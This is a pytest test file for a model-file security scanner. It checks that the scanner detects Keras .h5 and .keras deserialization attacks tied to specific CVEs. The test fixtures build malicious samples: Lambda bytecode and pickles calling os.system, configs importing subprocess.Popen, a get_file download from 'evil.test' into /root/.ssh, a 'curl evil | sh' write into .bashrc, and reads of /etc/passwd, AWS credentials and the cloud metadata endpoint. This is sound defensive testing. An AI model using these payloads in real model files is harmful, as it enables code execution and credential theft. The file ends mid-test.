"""The Keras analysers: legacy .h5 models and weights, and Keras 3 .keras configs.

Every sample is written by hand (h5py, zipfile, json); TensorFlow and Keras are not installed. Lambda bytecode is
produced with ``marshal.dumps(code)``, which serialises a code object and runs nothing.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.config import Limits, Settings
from bastion.findings import Finding, Severity
from bastion.scan.check import CheckOutcome, Target
from bastion.supplychain import ModelFileCheck
from bastion.supplychain.formats import Blob, _keras_impl, keras
from bastion.supplychain.formats.marshal_names import code_names
from bastion.supplychain.pickle import BufferSource

KERAS_SAMPLES = Path("modelaudit-assets/samples/keras")
OS_SYSTEM_PICKLE = b"cos\nsystem\n(S'id'\ntR."
"""A protocol-0 pickle that would call os.system('id'); written as bytes and never loaded."""

# `lambda x: __import__('os').system('id')`, marshalled by each CPython (produced once with pyenv's interpreters).
LAMBDA_BYTECODE = {
    "2.7": "YwEAAAABAAAAAgAAAEMAAABzEwAAAHQAAGQBAIMBAGoBAGQCAIMBAFMoAwAAAE50AgAAAG9zdAIAAABpZCgCAAAAdAoAAABfX2ltc"
           "G9ydF9fdAYAAABzeXN0ZW0oAQAAAHQBAAAAeCgAAAAAKAAAAABzCAAAADxzdHJpbmc+dAgAAAA8bGFtYmRhPgMAAAB0AAAAAA==",
    "3.6": "4wEAAAAAAAAAAQAAAAIAAABDAAAAcw4AAAB0AGQBgwFqAWQCgwFTACkDTtoCb3PaAmlkKQLaCl9faW1wb3J0X1/aBnN5c3RlbSk"
           "B2gF4qQByBgAAANoIPHN0cmluZz7aCDxsYW1iZGE+AwAAAHMAAAAA",
    "3.8": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMOAAAAdABkAYMBoAFkAqEBUwApA07aAm9z2gJpZCkC2gpfX2ltcG9ydF9f2gZzeXN"
           "0ZW0pAdoBeKkAcgYAAADaCDxzdHJpbmc+2gg8bGFtYmRhPgMAAADzAAAAAA==",
    "3.10": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMOAAAAdABkAYMBoAFkAqEBUwApA07aAm9z2gJpZCkC2gpfX2ltcG9ydF9f2gZzeX"
            "N0ZW0pAdoBeKkAcgYAAADaCDxzdHJpbmc+2gg8bGFtYmRhPgMAAABzAgAAAA4A",
    "3.12": "4wEAAAAAAAAAAAAAAAMAAAADAAAA8zYAAACXAHQBAAAAAAAAAABkAasBAAAAAAAAagMAAAAAAAAAAAAAAAAAAAAAAABkAqsBAA"
            "AAAAAAUwApA07aAm9z2gJpZCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAdoBeHMBAAAAIPoIPHN0cmluZz76CDxsYW1iZGE+cggA"
            "AAADAAAAcxYAAACAAIxKkHTTDBzXDCPRDCOgRNMMKYAA8wAAAAA=",
    "3.13": "4wEAAAAAAAAAAAAAAAMAAAADAAAA8zYAAACVAFsBAAAAAAAAAABTATUBAAAAAAAAUgMAAAAAAAAAAAAAAAAAAAAAAABTAjUBAA"
            "AAAAAAJAApA07aAm9z2gJpZCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAdoBeHMBAAAAINoIPHN0cmluZz7aCDxsYW1iZGE+cggA"
            "AAADAAAAcxQAAACAAIxKkHTTDBzXDCPRDCOgRNQMKfMAAAAA",
}


# ---- builders ----


def _examine(path: Path, settings: Settings | None = None) -> CheckOutcome:
    check = ModelFileCheck(analyzers=(keras.ANALYZER, keras.CONFIG_ANALYZER))
    return check.examine(Target(str(path), path, path.stat().st_size), settings or Settings())


def _describe(outcome: CheckOutcome) -> str:
    found = "; ".join(f"{f.rule_id} {f.severity.label} {f.title} @{f.location.member}" for f in outcome.findings)
    return f"kind={outcome.kind} incomplete={outcome.incomplete} :: {found or 'no findings'}"


def _rules(outcome: CheckOutcome, at_least: Severity = Severity.INFO) -> set[str]:
    return {f.rule_id for f in outcome.findings if f.severity >= at_least}


def _only(outcome: CheckOutcome, rule_id: str) -> list[Finding]:
    return [f for f in outcome.findings if f.rule_id == rule_id]


def _dense(name: str, units: int, keras3: bool = True, **extra: Any) -> dict[str, Any]:
    config = {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": "relu",
              "use_bias": True, "kernel_initializer": _init("GlorotUniform", {"seed": None}, keras3),
              "bias_initializer": _init("Zeros", {}, keras3), "kernel_regularizer": None, **extra}
    layer: dict[str, Any] = {"class_name": "Dense", "config": config}
    if keras3:
        layer.update(module="keras.layers", registered_name=None, build_config={"input_shape": [None, 4]})
    return layer


def _init(cls: str, config: dict[str, Any], keras3: bool) -> dict[str, Any]:
    if keras3:
        return {"module": "keras.initializers", "class_name": cls, "config": config, "registered_name": None}
    return {"class_name": cls, "config": config}


def _keras3_sequential(*layers: dict[str, Any], name: str = "sequential") -> dict[str, Any]:
    """A Keras 3 ``config.json`` as ``model.save("x.keras")`` writes it."""
    dtype = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    inputs = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
              "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"}}
    return {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": name, "trainable": True, "dtype": dtype, "layers": [inputs, *layers],
                   "build_input_shape": [None, 4]},
        "build_config": {"input_shape": [None, 4]},
        "compile_config": {
            "optimizer": {"module": "keras.optimizers", "class_name": "Adam", "registered_name": None,
                          "config": {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9}},
            "loss": "mean_squared_error", "metrics": ["mae"], "loss_weights": None, "run_eagerly": False,
        },
    }


def _keras_zip(path: Path, config: dict[str, Any] | bytes, weights: dict[str, tuple[int, ...]] | None = None,
               method: int = zipfile.ZIP_DEFLATED) -> Path:
    """A ``.keras`` archive: metadata.json, config.json and model.weights.h5, in the order Keras writes them."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        for name, shape in (weights or {"layers/dense/vars/0": (4, 8), "layers/dense/vars/1": (8,)}).items():
            h5.create_dataset(name, data=np.zeros(shape, "float32"))
        h5.create_dataset("optimizer/vars/0", data=np.zeros((), "int64"))
    metadata = {"keras_version": "3.6.0", "date_saved": "2025-01-02@03:04:05"}
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("metadata.json", json.dumps(metadata))
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", buffer.getvalue())
    return path


def _keras2_h5(path: Path, model_config: dict[str, Any] | str | None, *, training_config: Any = None,
               weights: dict[str, tuple[int, ...]] | None = None, as_str: bool = False, userblock: int = 0) -> Path:
    """A Keras 2 ``model.save("x.h5")`` file: root attributes, model_weights and optimizer_weights groups."""
    with h5py.File(path, "w", userblock_size=userblock) as h5:
        if model_config is not None:
            text = model_config if isinstance(model_config, str) else json.dumps(model_config)
            h5.attrs["model_config"] = text if as_str else text.encode()
        if training_config is not None:
            h5.attrs["training_config"] = json.dumps(training_config).encode()
        h5.attrs["keras_version"] = b"2.12.0"
        h5.attrs["backend"] = b"tensorflow"
        group = h5.create_group("model_weights")
        for name, shape in (weights or {}).items():
            group.create_dataset(name, data=np.zeros(shape, "float32"))
        h5.create_dataset("optimizer_weights/Adam/iter:0", data=np.zeros((), "int64"))
    return path


def _keras2_sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    inputs = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                     "sparse": False, "ragged": False, "name": "dense_input"}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [inputs, *layers]},
            "keras_version": "2.12.0", "backend": "tensorflow"}


def _keras2_lambda(function: Any, function_type: str = "lambda", module: str = "__main__",
                   name: str = "lambda") -> dict[str, Any]:
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": function, "function_type": function_type,
        "module": module, "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
        "arguments": {}}}


def _func_dump(code: str) -> list[Any]:
    """What Keras' func_dump writes for a lambda: [base64 of marshal(code), defaults, closure]."""
    compiled = compile(code, "<lambda>", "eval").co_consts[0]
    return [base64.encodebytes(marshal.dumps(compiled)).decode("ascii"), None, None]


# ---- the shared fixtures ----


def test_modelaudit_malicious_lambda_h5_is_critical(shared_models: Path) -> None:
    outcome = _examine(shared_models / KERAS_SAMPLES / "malicious_lambda.h5")
    assert outcome.kind == "keras-h5" and not outcome.incomplete, _describe(outcome)
    lambdas = _only(outcome, "BST-KER-001")
    assert lambdas and lambdas[0].severity is Severity.CRITICAL, _describe(outcome)
    assert "eval" in lambdas[0].title and "security test" in lambdas[0].evidence


def test_modelaudit_safe_model_h5_has_nothing_at_medium(shared_models: Path) -> None:
    outcome = _examine(shared_models / KERAS_SAMPLES / "safe_model.h5")
    assert not _rules(outcome, Severity.MEDIUM) and not outcome.incomplete, _describe(outcome)
    assert outcome.facts["format"] == "keras-h5" and outcome.facts["architecture"] == "Sequential"


# ---- benign models ----


def test_keras2_sequential_h5_is_clean_with_facts(tmp_path: Path) -> None:
    config = _keras2_sequential(_dense("dense", 8, keras3=False), {"class_name": "Dropout", "config": {
        "name": "dropout", "rate": 0.5}}, _dense("dense_1", 1, keras3=False))
    training = {"loss": "mse", "metrics": ["mae"], "optimizer_config": {"class_name": "Adam", "config": {
        "name": "Adam", "learning_rate": 0.001}}}
    weights = {"dense/dense/kernel:0": (4, 8), "dense/dense/bias:0": (8,), "dense_1/dense_1/kernel:0": (8, 1),
               "dense_1/dense_1/bias:0": (1,)}
    outcome = _examine(_keras2_h5(tmp_path / "model.h5", config, training_config=training, weights=weights))
    assert not outcome.findings and not outcome.incomplete, _describe(outcome)
    assert outcome.facts == {
        "format": "keras-h5", "framework": "keras", "keras_version": "2.12.0", "backend": "tensorflow",
        "architecture": "Sequential", "model_name": "sequential", "keras.layers": 4,
        "parameters": 4 * 8 + 8 + 8 + 1,  # optimizer state is not a parameter
    }


def test_keras213_functional_h5_with_nested_model_and_shared_layer_is_clean(tmp_path: Path) -> None:
    shared = _dense("shared", 4)
    inner = {"module": "keras.engine.sequential", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "inner", "layers": [_dense("inner_dense", 4)]}, "name": "inner",
             "inbound_nodes": [[["shared", 1, 0, {}]]]}
    config = {
        "module": "keras.engine.functional", "class_name": "Functional", "registered_name": "Functional",
        "config": {"name": "model", "trainable": True, "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "input_1",
             "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"}, "inbound_nodes": []},
            {**shared, "name": "shared", "inbound_nodes": [[["input_1", 0, 0, {}]], [["input_1", 0, 0, {}]]]},
            inner,
            {"module": "keras.layers", "class_name": "Activation", "registered_name": None, "name": "act",
             "config": {"name": "act", "activation": {"module": "builtins", "class_name": "function",
                                                      "config": "gelu", "registered_name": "function"}},
             "inbound_nodes": [[["inner", 0, 0, {}]]]},
        ], "input_layers": [["input_1", 0, 0]], "output_layers": [["act", 0, 0]]},
        "keras_version": "2.13.1", "backend": "tensorflow",
    }
    outcome = _examine(_keras2_h5(tmp_path / "functional.h5", config, as_str=True,
                                  weights={"shared/shared/kernel:0": (4, 4)}))
    assert not outcome.findings and not outcome.incomplete, _describe(outcome)
    assert outcome.facts["architecture"] == "Functional" and outcome.facts["keras.layers"] == 4
    assert outcome.facts["parameters"] == 16


def test_h5_after_a_user_block_is_recognised(tmp_path: Path) -> None:
    path = _keras2_h5(tmp_path / "ub.h5", _keras2_sequential(_keras2_lambda(_func_dump("lambda x: x"))),
                      userblock=1024)
    assert path.read_bytes()[1024:1032] == keras.HDF5_SIGNATURE != path.read_bytes()[:8]
    outcome = _examine(path)
    assert outcome.kind == "keras-h5" and "BST-KER-001" in _rules(outcome), _describe(outcome)


def test_weights_only_h5_counts_parameters(tmp_path: Path) -> None:
    path = tmp_path / "weights.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["layer_names"] = np.array([b"dense"])
        h5.attrs["keras_version"] = b"2.11.0"
        h5.create_dataset("dense/dense/kernel:0", data=np.zeros((3, 5), "float32"))
    outcome = _examine(path)
    assert not outcome.findings and outcome.facts["parameters"] == 15 and outcome.facts["format"] == "keras-h5"


def test_plain_hdf5_is_not_called_keras(tmp_path: Path) -> None:
    path = tmp_path / "data.h5"
    with h5py.File(path, "w") as h5:
        h5.create_dataset("table", data=np.arange(10))
    outcome = _examine(path)
    assert not outcome.findings and outcome.facts == {"format": "hdf5"}, _describe(outcome)


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
def test_keras3_zip_end_to_end_is_clean(tmp_path: Path, method: int) -> None:
    activation = {"module": "keras.activations", "class_name": "function", "config": "relu",
                  "registered_name": "relu"}
    config = _keras3_sequential(_dense("dense", 8, activation=activation))
    outcome = _examine(_keras_zip(tmp_path / "model.keras", config, method=method))
    assert not _rules(outcome) and not outcome.incomplete, _describe(outcome)
    assert outcome.kind == "keras"
    assert outcome.facts == {
        "format": "keras", "framework": "keras", "keras_version": "3.6.0", "architecture": "Sequential",
        "model_name": "sequential", "keras.layers": 2, "parameters": 40,
    }


# ---- one malicious sample per CVE ----


def test_keras2_lambda_bytecode_h5_is_critical_and_names_what_it_calls(tmp_path: Path) -> None:
    """CVE-2024-3660 / CVE-2025-9905: the legacy h5 loader unmarshals and runs Lambda bytecode."""
    layer = _keras2_lambda(_func_dump("lambda x: __import__('os').system('touch /tmp/pwned') or x"))
    outcome = _examine(_keras2_h5(tmp_path / "lambda.h5", _keras2_sequential(layer)))
    [finding] = _only(outcome, "BST-KER-001")
    assert finding.severity is Severity.CRITICAL
    assert "__import__" in finding.title and "system" in finding.title and "os" in finding.title
    assert "touch /tmp/pwned" in finding.evidence and "marshalled bytecode" in finding.evidence


@pytest.mark.parametrize("version", sorted(LAMBDA_BYTECODE))
def test_lambda_bytecode_of_any_python_is_read(tmp_path: Path, version: str) -> None:
    layer = _keras2_lambda([LAMBDA_BYTECODE[version], None, None])
    outcome = _examine(_keras2_h5(tmp_path / "lambda.h5", _keras2_sequential(layer)))
    [finding] = _only(outcome, "BST-KER-001")
    assert "system" in finding.title and "'os'" in finding.evidence, finding.evidence


def test_lambda_stored_as_source_text_is_critical(tmp_path: Path) -> None:
    layer = _keras2_lambda("callable(x) and __import__('subprocess').check_output(['id'])")
    outcome = _examine(_keras2_h5(tmp_path / "source.h5", _keras2_sequential(layer)))
    [finding] = _only(outcome, "BST-KER-001")
    assert finding.evidence.startswith("Python source:") and "check_output" in finding.title


def test_lambda_with_unreadable_bytecode_is_still_critical(tmp_path: Path) -> None:
    garbage = base64.b64encode(b"\xe3" + b"\xff" * 40).decode()
    outcome = _examine(_keras2_h5(tmp_path / "bad.h5", _keras2_sequential(_keras2_lambda([garbage, None, None]))))
    [finding] = _only(outcome, "BST-KER-001")
    assert finding.severity is Severity.CRITICAL and "not readable" in finding.evidence


def test_keras2_named_function_lambda_is_judged_by_the_pickle_policy(tmp_path: Path) -> None:
    layer = _keras2_lambda("system", function_type="function", module="os")
    outcome = _examine(_keras2_h5(tmp_path / "named.h5", _keras2_sequential(layer)))
    [finding] = _only(outcome, "BST-KER-002")
    assert finding.severity is Severity.CRITICAL and finding.evidence == "os.system"


def test_keras3_lambda_in_config_json_is_critical(tmp_path: Path) -> None:
    """CVE-2024-3660 in a .keras archive (loaded with safe_mode=False, or after CVE-2025-9906)."""
    code = _func_dump("lambda x: eval(\"__import__('os').system('id')\")")
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {
        "name": "lambda", "function": {"class_name": "__lambda__", "config": {
            "code": code[0], "defaults": None, "closure": None}}, "arguments": {}}}
    outcome = _examine(_keras_zip(tmp_path / "lambda.keras", _keras3_sequential(lam)))
    [finding] = _only(outcome, "BST-KER-001")
    assert finding.severity is Severity.CRITICAL and "eval" in finding.title and "'lambda'" in finding.title
    assert finding.location.member == "config.json"


def test_keras3_serialised_lambda_value_is_critical(tmp_path: Path) -> None:
    value = {"class_name": "__lambda__", "config": {"value": _func_dump("lambda y: open('/etc/shadow').read()")}}
    config = _keras3_sequential(_dense("dense", 8, activation=value))
    outcome = _examine(_keras_zip(tmp_path / "value.keras", config))
    [finding] = _only(outcome, "BST-KER-001")
    assert "open" in finding.title


def test_config_importing_os_system_is_critical(tmp_path: Path) -> None:
    """CVE-2025-1550: config.json names any module and function; Keras < 3.9 imports and calls it."""
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    popen = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": None}
    config = _keras3_sequential(_dense("dense", 8, activation=call), popen)
    outcome = _examine(_keras_zip(tmp_path / "cve-2025-1550.keras", config))
    imports = _only(outcome, "BST-KER-002")
    assert {f.evidence for f in imports} == {"os.system", "subprocess.Popen"}, _describe(outcome)
    assert all(f.severity is Severity.CRITICAL for f in imports)


def test_custom_objects_outside_keras_are_medium(tmp_path: Path) -> None:
    custom = {"module": "my_project.layers", "class_name": "MyAttention", "registered_name": "MyProject>MyAttention",
              "config": {"name": "attention", "heads": 4}}
    registered = {"module": None, "class_name": "Scale", "registered_name": "Custom>Scale", "config": {}}
    outcome = _examine(_keras_zip(tmp_path / "custom.keras", _keras3_sequential(custom, registered)))
    assert _rules(outcome) == {"BST-KER-003"}, _describe(outcome)
    assert {f.evidence for f in outcome.findings} == {"my_project.layers.MyAttention", "Custom>Scale"}
    assert all(f.severity is Severity.MEDIUM for f in outcome.findings)


def test_get_file_gadget_is_critical(tmp_path: Path) -> None:
    """CVE-2025-8747: keras.utils.get_file called from a Functional graph downloads and writes files."""
    layer = {"module": "keras.utils", "class_name": "get_file", "registered_name": None, "name": "get_file",
             "config": {"name": "x"}, "inbound_nodes": [{"args": ["authorized_keys", "http://evil.test/k"],
                                                         "kwargs": {"cache_dir": "/root/.ssh"}}]}
    outcome = _examine(_keras_zip(tmp_path / "get_file.keras", _keras3_sequential(layer)))
    [finding] = _only(outcome, "BST-KER-004")
    assert finding.severity is Severity.CRITICAL and finding.evidence == "keras.utils.get_file"


def test_enable_unsafe_deserialization_is_critical(tmp_path: Path) -> None:
    """CVE-2025-9906: the config switches safe mode off before a Lambda."""
    switch = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
              "registered_name": "enable_unsafe_deserialization"}
    config = _keras3_sequential(_dense("dense", 8, activation=switch))
    outcome = _examine(_keras_zip(tmp_path / "unsafe.keras", config))
    [finding] = _only(outcome, "BST-KER-005")
    assert finding.severity is Severity.CRITICAL


def test_enable_unsafe_deserialization_as_a_bare_string_is_found(tmp_path: Path) -> None:
    config = _keras3_sequential(_dense("dense", 8, activation="keras.config.enable_unsafe_deserialization"))
    outcome = _examine(_keras_zip(tmp_path / "unsafe.keras", config))
    assert "BST-KER-005" in _rules(outcome), _describe(outcome)


def test_torch_module_wrapper_payload_is_scanned_as_a_pickle(tmp_path: Path) -> None:
    """CVE-2025-49655: TorchModuleWrapper's config.module goes to torch.load(weights_only=False)."""
    wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None, "config": {
        "name": "torch_module_wrapper", "trainable": True, "output_shape": None,
        "module": base64.b64encode(OS_SYSTEM_PICKLE).decode()}}
    outcome = _examine(_keras_zip(tmp_path / "torch.keras", _keras3_sequential(wrapper)))
    [wrapped] = _only(outcome, "BST-KER-006")
    assert wrapped.severity is Severity.HIGH
    nested = [f for f in outcome.findings if f.rule_id.startswith("BST-PKL") and f.severity is Severity.CRITICAL]
    assert nested, _describe(outcome)
    assert all(f.location.member == "config.json!TorchModuleWrapper" for f in nested)
    assert any("os.system" in f.title for f in nested)


def test_torch_module_wrapper_bytes_object_payload_is_scanned(tmp_path: Path) -> None:
    wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {
        "name": "w", "module": {"class_name": "__bytes__", "config": {"value": OS_SYSTEM_PICKLE.decode()}}}}
    path = tmp_path / "config.json"
    path.write_text(json.dumps(_keras3_sequential(wrapper)))
    outcome = _examine(path)
    assert {"BST-KER-006", "BST-PKL-001"} <= _rules(outcome), _describe(outcome)
    assert {f.location.member for f in _only(outcome, "BST-PKL-001")} == {"TorchModuleWrapper"}


@pytest.mark.parametrize(("cls", "key", "value"), [
    ("StringLookup", "vocabulary", "/etc/passwd"),
    ("IntegerLookup", "vocabulary", "/home/user/.aws/credentials"),
    ("TextVectorization", "vocabulary", "gs://attacker-bucket/vocab.txt"),
    ("TFSMLayer", "filepath", "http://169.254.169.254/latest/meta-data/"),
])
def test_layers_reading_files_or_urls_are_high(tmp_path: Path, cls: str, key: str, value: str) -> None:
    """CVE-2025-12058 (lookup vocabularies through tf.io.gfile) and CVE-2026-1462 (TFSMLayer)."""
    layer = {"module": "keras.layers", "class_name": cls, "registered_name": None,
             "config": {"name": "layer", key: value, "num_oov_indices": 1}}
    outcome = _examine(_keras_zip(tmp_path / "reads.keras", _keras3_sequential(layer)))
    [finding] = _only(outcome, "BST-KER-007")
    assert finding.severity is Severity.HIGH and value in finding.evidence
    assert ("fetches the URL" in finding.title) == ("://" in value)


def test_inline_vocabulary_is_fine(tmp_path: Path) -> None:
    layer = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
             "config": {"name": "lookup", "vocabulary": ["a", "b", "c"], "mask_token": None}}
    outcome = _examine(_keras_zip(tmp_path / "inline.keras", _keras3_sequential(layer)))
    assert not _rules(outcome), _describe(outcome)


def test_tf_op_lambda_writing_files_is_high(tmp_path: Path) -> None:
    op = {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"},
          "inbound_nodes": [["_CONSTANT_VALUE", -1, "/home/user/.bashrc", {"contents": "curl evil | sh"}]]}
    harmless = {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "function": "math.add"}}
    outcome = _examine(_keras2_h5(tmp_path / "tfop.h5", _keras2_sequential(op, harmless)))
    [finding] = _only(outcome, "BST-KER-007")
    assert finding.evidence == "io.write_file"


def test_layer_name_escaping_its_folder_is_high(tmp_path: Path) -> None:
    config = _keras3_sequential(_dense("../../../home/user/.ssh/authorized_keys", 8))
    outcome = _examine(_keras_zip(tmp_path / "traversal.keras", config))
    [finding] = _only(outcome, "BST-KER-008")
    assert finding.severity is Severity.HIGH


def test_dataset_declaring_terabytes_is_reported(tmp_path: Path) -> None:
    """CVE-2026-0897: Keras allocates the declared shape of a weight dataset."""
    path = tmp_path / "bomb.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["keras_version"] = b"3.12.0"
        h5.create_dataset("layers/dense/vars/0", shape=(1 << 20, 1 << 20), dtype="float32", chunks=True)
    assert path.stat().st_size < 100_000
    outcome = _examine(path)
    [finding] = _only(outcome, "BST-KER-009")
    assert finding.severity is Severity.MEDIUM and "layers/dense/vars/0" in finding.evidence


# ---- recognition ----


@pytest.mark.parametrize("document", [
    {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768},  # Hugging Face config.json
    {"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "ObjectNode", "content": {}},  # skops
    {"name": "my-package", "version": "1.0.0", "dependencies": {"keras": "^3"}},  # package.json
    {"class_name": "Thing", "label": "no config key"},
    {"keras_version": "3.1.0"},  # not a metadata.json without date_saved
])
def test_config_sniff_refuses_other_json(document: dict[str, Any]) -> None:
    assert not keras.CONFIG_ANALYZER.sniff(_blob(json.dumps(document).encode(), "config.json"))


@pytest.mark.parametrize(("document", "name"), [
    (_keras3_sequential(), "whatever.json"),
    (_keras2_sequential(), "model.json"),  # model.to_json()
    ({"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {}}]}}, "x"),
    ({"class_name": "Model", "config": {}}, "config.json"),
    ({"keras_version": "3.6.0", "date_saved": "2025-01-02@03:04:05"}, "metadata.json"),
])
def test_config_sniff_accepts_keras_documents(document: dict[str, Any], name: str) -> None:
    assert keras.CONFIG_ANALYZER.sniff(_blob(json.dumps(document).encode(), name))


def test_h5_sniff_needs_the_signature() -> None:
    assert not keras.ANALYZER.sniff(_blob(b"\x89HDF\r\n\x1a" + b"\0" * 600, "x.h5"))
    assert keras.ANALYZER.sniff(_blob(b"\0" * 2048 + keras.HDF5_SIGNATURE + b"\0" * 100, "x.h5"))


@dataclass
class _Report:
    """A Report that records what the walker says, for tests that call ``examine_config`` directly."""

    deadline: float = field(default_factory=lambda: time.monotonic() + 60)
    limits: Limits = field(default_factory=Limits)
    findings: list[tuple[str, str]] = field(default_factory=list)
    incomplete: list[str] = field(default_factory=list)
    facts: dict[str, object] = field(default_factory=dict)
    nested_payloads: list[tuple[bytes, str]] = field(default_factory=list)

    def add(self, rule_id: str, title: str, detail: str, member: str | None, offset: int | None,
            evidence: str = "", severity: Severity | None = None) -> None:
        self.findings.append((rule_id, title))

    def not_examined(self, member: str | None, why: str) -> None:
        self.incomplete.append(why)

    def fact(self, key: str, value: object) -> None:
        self.facts.setdefault(key, value)

    def nested(self, data: bytes | memoryview, member: str) -> None:
        self.nested_payloads.append((bytes(data), member))


def _blob(data: bytes, name: str) -> Blob:
    return Blob(BufferSource(data), len(data), data[:512], name, name, None, lambda: memoryview(data))


# ---- robustness ----


def test_corrupt_hdf5_is_incomplete_not_a_crash(tmp_path: Path) -> None:
    path = tmp_path / "corrupt.h5"
    path.write_bytes(keras.HDF5_SIGNATURE + bytes(range(256)) * 8)
    outcome = _examine(path)
    assert outcome.incomplete and "HDF5" in outcome.incomplete[0], _describe(outcome)


def test_corrupt_weights_member_is_incomplete_not_a_crash(tmp_path: Path) -> None:
    path = tmp_path / "corrupt.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(_keras3_sequential()))
        archive.writestr("model.weights.h5", keras.HDF5_SIGNATURE + b"\xff" * 4000)
    outcome = _examine(path)
    assert [why for why in outcome.incomplete if "model.weights.h5" in why and "HDF5" in why], _describe(outcome)
    assert not any("failed" in why for why in outcome.incomplete)


def test_odd_attribute_types_are_tolerated(tmp_path: Path) -> None:
    path = tmp_path / "odd.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["keras_version"] = 3
        h5.attrs["backend"] = np.array([b"tensorflow"])
        config = {k: v for k, v in _keras2_sequential().items() if k not in ("keras_version", "backend")}
        h5.attrs["model_config"] = np.array([json.dumps(config).encode()])
    outcome = _examine(path)
    assert not outcome.incomplete and not outcome.findings, _describe(outcome)
    assert outcome.facts["backend"] == "tensorflow" and "keras_version" not in outcome.facts


def test_model_config_that_is_not_json_is_incomplete(tmp_path: Path) -> None:
    outcome = _examine(_keras2_h5(tmp_path / "bad.h5", "{not json"))
    assert any("model_config attribute is not valid JSON" in why for why in outcome.incomplete), _describe(outcome)


def test_odd_types_do_not_break_the_walker(tmp_path: Path) -> None:
    config = {"class_name": "Sequential", "module": "keras", "config": {"name": 3, "layers": [
        {"class_name": 7, "config": []}, {"class_name": "Lambda", "config": [1, 2]},
        {"class_name": "Lambda", "config": {"function": 12, "function_type": "lambda"}},
        {"class_name": "Lambda", "config": {"function": None}},
        {"class_name": "TorchModuleWrapper", "config": {"module": 5}},
        {"class_name": "function", "module": "builtins", "config": {"x": 1}},
        {"class_name": "__typespec__", "module": "tensorflow.python.framework.tensor", "spec_name": "TensorSpec",
         "config": [[None, 4], "float32"]},
        {"class_name": "Dense", "module": "keras.layers", "registered_name": 4, "shared_object_id": 140232,
         "config": {"name": "d", "vocabulary": 9}},
        {"class_name": "Dense", "module": "keras.layers", "shared_object_id": 140232, "config": {"name": "d"}},
        [[[]]], None, True, 1.5, "text",
    ]}}
    outcome = _examine(_keras_zip(tmp_path / "odd.keras", config))
    assert not outcome.incomplete, _describe(outcome)
    lambdas = _only(outcome, "BST-KER-001")
    assert len(lambdas) == 1 and "int" in lambdas[0].evidence
    assert _rules(outcome) == {"BST-KER-001", "BST-KER-006"}, _describe(outcome)


def test_deep_nesting_is_bounded_and_the_rest_still_walked(tmp_path: Path) -> None:
    deep: Any = "leaf"
    for _ in range(400):
        deep = {"class_name": "Wrapper", "config": {"layer": deep}}
    after = {"module": "os", "class_name": "function", "config": "system"}
    outcome = _examine(_keras_zip(tmp_path / "deep.keras", _keras3_sequential(deep, deep, after)))
    assert sum("nests deeper than" in why for why in outcome.incomplete) == 1, _describe(outcome)
    assert "BST-KER-002" in _rules(outcome)


def test_node_bound_stops_the_walk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_keras_impl, "MAX_NODES", 50)  # the walker reads its bound where it lives
    config = _keras3_sequential(*[_dense(f"d{i}", 2) for i in range(20)])
    outcome = _examine(_keras_zip(tmp_path / "wide.keras", config))
    assert any("not walked to the end" in why for why in outcome.incomplete), _describe(outcome)


def test_repeated_custom_objects_are_reported_once_and_capped(tmp_path: Path) -> None:
    same = [{"module": "__main__", "class_name": "MyLayer", "config": {"name": f"l{i}"}} for i in range(30)]
    many = [{"module": "__main__", "class_name": f"Layer{i}", "config": {}} for i in range(keras.MAX_FINDINGS_PER_RULE
                                                                                             + 5)]
    outcome = _examine(_keras_zip(tmp_path / "many.keras", _keras3_sequential(*same, *many)))
    custom = _only(outcome, "BST-KER-003")
    assert len(custom) == keras.MAX_FINDINGS_PER_RULE + 1, _describe(outcome)
    assert "6 more findings" in custom[-1].title


def test_time_limit_stops_the_walk() -> None:
    report = _Report(deadline=time.monotonic() - 1)
